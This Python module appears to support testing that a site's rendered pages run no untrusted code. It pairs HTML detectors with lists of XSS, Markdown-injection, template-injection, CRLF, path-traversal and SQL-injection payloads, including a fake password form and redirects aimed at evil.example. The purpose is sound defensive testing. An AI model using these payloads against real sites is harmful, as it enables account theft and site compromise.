"""Texts that try to run something in a reader's browser, and how it is noticed that one would."""

from __future__ import annotations

from html.parser import HTMLParser


class _Finding(HTMLParser):
    """Reads a page and keeps what its tags let it find."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)
        self.close()


class Danger(_Finding):
    """Collects everything in a page that could run or restyle something."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "form",
            "svg",
            "math",
            "base",
            "meta",
            "link",
        }:
            self.found.append(tag)
        for name, value in attrs:
            target = _target(value or "")
            if name.startswith("on") or name in {"style", "srcset", "formaction", "srcdoc"}:
                self.found.append(name)
            if name in {"href", "src"} and target.startswith(("javascript:", "data:", "vbscript:")):
                self.found.append(target)


def _target(value: str) -> str:
    """Return an address as browsers read it."""
    return value.lower().lstrip("".join(map(chr, range(33)))).translate(dict.fromkeys(map(ord, "\t\r\n")))


ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "![x](x){onerror=alert(1)}",
    "![x](x){style=position:fixed}",
    '[x](x "y\\" onmouseover=\\"alert(1)")',
    '[x](<x" onmouseover="alert(1)>)',
    "# x {onclick=alert(1)}",
    '# x {#"><script>alert(1)</script>}',
    '<https://x.example/"onclick=alert(1)>',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    '```"><script>alert(1)</script>\nx\n```',
    '!!! note "<script>alert(1)</script>"\n    x',
    "> [!note] <img src=x onerror=alert(1)>\n> x",
    "|<script>alert(1)</script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|d|",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<style>*{display:none}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<form action=//evil.example><input type=password name=p><button>Sign in</button></form>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<details open ontoggle=alert(1)>x</details>",
    "<!--><script>alert(1)</script-->",
    "<label for=q onclick=alert(1)>x</label><input type=radio id=q name=tabs-1 onfocus=alert(1) autofocus>",
    "<div class=tabbed-set onclick=alert(1)><label style=position:fixed>x</label></div>",
    '=== "<img src=x onerror=alert(1)>"\n\n    <script>alert(1)</script>',
    "\x02klzzwxh:0000\x03<script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
]


NAMES = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "' onmouseover='alert(1)' autofocus onfocus='alert(1)' x='",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "` onmouseover=alert(1) `",
    "javascript:alert(1)",
    "java\tscript:alert(1)//",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "{{ 7 * 191 }}{% raw %}${7 * 191}#{7 * 191}<%= 7 * 191 %>",
    "{{ config }}{{ ''.__class__.__mro__ }}",
    "**bold** [x](javascript:alert(1)) ![x](x){onerror=alert(1)}",
    "\u2028alert(1)\u2029",
    "\u202egnp.exe\u202c <img src=x onerror=alert(1)>",
    "Wren\u200bfield <b onclick=alert(1)>x</b>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%0d%0aSet-Cookie: taken=1",
    "../../../../etc/passwd",
    "'; DROP TABLE accounts; --",
]
"""One line each: for whatever has a name, a title or a search field."""


class Runs(_Finding):
    """Collects everything in a whole page of ours that would run what somebody else wrote."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        said = {name: value or "" for name, value in attrs}
        if tag == "script" and said.get("type") != "application/ld+json":
            self._note(not said.get("src", "").startswith("/static/"), tag)
        self._note(tag in {"style", "frame", "object", "embed", "base", "math", "foreignobject"}, tag)
        # A mail of ours in a frame that may do nothing at all.
        sealed = said.get("sandbox") == "" and said.get("src", "").startswith("/staff/programmes/")
        self._note(tag == "iframe" and not sealed, tag)
        comes_again = (said.get("http-equiv"), said.get("content")) == ("refresh", "2")  # to no other page
        self._note(tag == "meta" and "http-equiv" in said and not comes_again, "http-equiv")
        for name, value in said.items():
            target = _target(value)
            self._note(name.startswith("on") or name in {"style", "srcdoc", "srcset", "formaction"}, name)
            self._note(
                name in {"href", "src", "action", "xlink:href"}
                and target.startswith(("javascript:", "data:", "vbscript:")),
                target,
            )

    def _note(self, wrong: bool, what: str) -> None:
        if wrong:
            self.found.append(what)
